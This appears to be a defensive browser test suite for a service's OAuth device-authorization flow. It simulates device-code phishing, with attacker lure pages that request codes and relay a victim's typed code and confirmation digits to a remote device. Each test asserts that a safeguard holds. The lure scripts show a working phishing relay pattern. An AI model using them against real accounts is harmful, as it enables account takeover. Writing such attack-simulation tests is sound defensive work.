// Device-code phishing with three parties: the owner's browser, a page of the attacker's in it, and the attacker's device elsewhere;
// `threats.md` §5.2 rows 21, 24, 25 and 36.

import assert from "node:assert/strict";
import { after, describe, test } from "node:test";
import { closeBrowser, visitor } from "./lib/browser.mjs";
import { AWAY, HOME, PAIRED, SHOWN, at, site, startDevice } from "./lib/devices.mjs";
import { openWindow } from "./lib/letting_in.mjs";
import { startListener } from "./lib/listener.mjs";
import { words } from "./lib/walk.mjs";

after(closeBrowser);

/** A page of the attacker's, on a host of its own. */
const lure = (t, html, answer = () => ({})) => startListener(t, async (request, response) => {
  if (request.method === "POST") {
    let body = "";
    for await (const chunk of request) body += chunk;
    response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(await answer(body)));
  } else {
    response.writeHead(200, { "content-type": "text/html" }).end(`<!doctype html><title>Set up your screen</title>${html}`);
  }
});

describe("device attacks", { concurrency: 2 }, () => {
  test("row 21: a page that mints its code at the click has nothing to mint", async (t) => {
    const { server, owner } = await site(t, PAIRED);
    const page = await lure(t, `<button>Show my code</button><output></output><script>
      document.querySelector("button").onclick = async () => {
        const body = new URLSearchParams({ client_id: "terminal", scope: "openid" });
        try {
          const answer = await fetch("${server.origin}/oauth/device_authorization", { method: "POST", body });
          document.querySelector("output").textContent = "answered " + answer.status + " " + (await answer.text());
        } catch (error) {
          document.querySelector("output").textContent = "nothing";
        }
      };</script>`);
    await owner.page.goto(page.origin);
    await owner.page.getByRole("button", { name: "Show my code" }).click();
    await owner.page.locator("output", { hasText: /answered|nothing/ }).waitFor();
    assert.equal(await owner.page.locator("output").innerText(), "nothing", "the browser does not even hand the refusal on");
    // Nor from a server of the attacker's, which no browser holds back.
    const kit = await startDevice(server, "terminal", AWAY);
    assert.equal(kit.metadata.device_authorization_endpoint, undefined);
    assert.equal((await kit.brings("BCDF-GHJK-LMNP")).error, "invalid_grant", "no window is open");
    await owner.page.goto(`${server.origin}/account/activity`);
    assert.doesNotMatch(await words(owner.page), /device/i);
  });

  test("row 24: somebody signed in who follows the complete address and presses the button has let nobody in", async (t) => {
    const { server, owner } = await site(t, SHOWN);
    const body = new URLSearchParams({ client_id: "tv", scope: "openid" });
    const asks = await fetch(`${server.origin}/oauth/device_authorization`, { method: "POST", headers: { "x-forwarded-for": AWAY }, body });
    const begun = await asks.json();
    await owner.page.goto(begun.verification_uri_complete);
    await owner.page.getByRole("button", { name: "Look who asks" }).click();
    await owner.page.waitForURL(/\/device\/asked$/);
    const page = await words(owner.page);
    assert.match(page, /In another network\./);
    assert.match(page, /A code that came by mail, by message or by telephone is somebody else’s/);
    assert.deepEqual(await owner.page.locator("main form button").allInnerTexts(), ["No, that is not mine"], "there is no yes to press");
    const poll = new URLSearchParams({ client_id: "tv", grant_type: "urn:ietf:params:oauth:grant-type:device_code", device_code: begun.device_code });
    const polled = await fetch(`${server.origin}/oauth/token`, { method: "POST", headers: { "x-forwarded-for": AWAY }, body: poll });
    assert.equal((await polled.json()).error, "authorization_pending");
    await owner.page.goto(`${server.origin}/account/activity`);
    assert.match(await words(owner.page), /The code of a device with Linden Screen was typed\. It was in another network/);
    // Whoever has the code from elsewhere finds that it is taken.
    const other = await visitor(t, at(AWAY));
    await other.page.goto(begun.verification_uri_complete);
    assert.match(other.page.url(), /\/sign-in/);
  });

  test("rows 25 and 36: code and digits relayed live from a proxy in the same city give little, for as long as nobody reads mail", async (t) => {
    const { server, owner } = await site(t, PAIRED);
    const kit = await startDevice(server, "terminal", AWAY);
    let begun;
    // The attacker's page takes the code, and shows the digits that its device elsewhere was given.
    const page = await lure(t, `<input><button>Next</button><output></output><script>
      document.querySelector("button").onclick = async () => {
        const answer = await fetch("/", { method: "POST", body: document.querySelector("input").value });
        document.querySelector("output").textContent = (await answer.json()).digits;
      };</script>`, async (code) => {
      begun = await kit.brings(code);
      return { digits: begun.confirmation };
    });
    const code = await openWindow(owner, server);
    const tab = await owner.page.context().newPage();
    await tab.goto(page.origin);
    await tab.locator("input").fill(code);
    await tab.getByRole("button", { name: "Next" }).click();
    await tab.locator("output", { hasText: /^\d{4}$/ }).waitFor();
    const digits = await tab.locator("output").innerText();
    await owner.page.getByRole("heading", { name: "Is this device yours?" }).waitFor();
    assert.match(await words(owner.page), /In another network\. .*say no/, "she was told before she answered");
    await owner.page.locator("#digits").fill(digits);
    await owner.page.getByRole("button", { name: "Yes, let it in" }).click();
    await owner.page.getByRole("heading", { name: "The device is let in" }).waitFor();

    const got = await kit.polls(begun.device_code);
    assert.deepEqual([got.token_type, got.scope], ["DPoP", "openid"], `neither her shelf nor anything else: ${JSON.stringify(got)}`);
    let mail = await owner.box.nextNotice();
    while (!/A device in another network may use your account/.test(mail.subject)) mail = await owner.box.nextNotice();
    const link = mail.text.match(/https?:\S+\/app\/\S+/)[0];
    const reader = await visitor(t, at(HOME));
    await reader.page.goto(link);
    await reader.page.getByRole("button", { name: "This was not me: end it" }).click();
    await reader.page.getByText("It has lost access.").waitFor();
    assert.equal((await kit.refreshes(got.refresh_token)).error, "invalid_grant");
    await owner.page.goto(`${server.origin}/account/grants`);
    assert.doesNotMatch(await words(owner.page), /Linden at the command line/);
  });
});
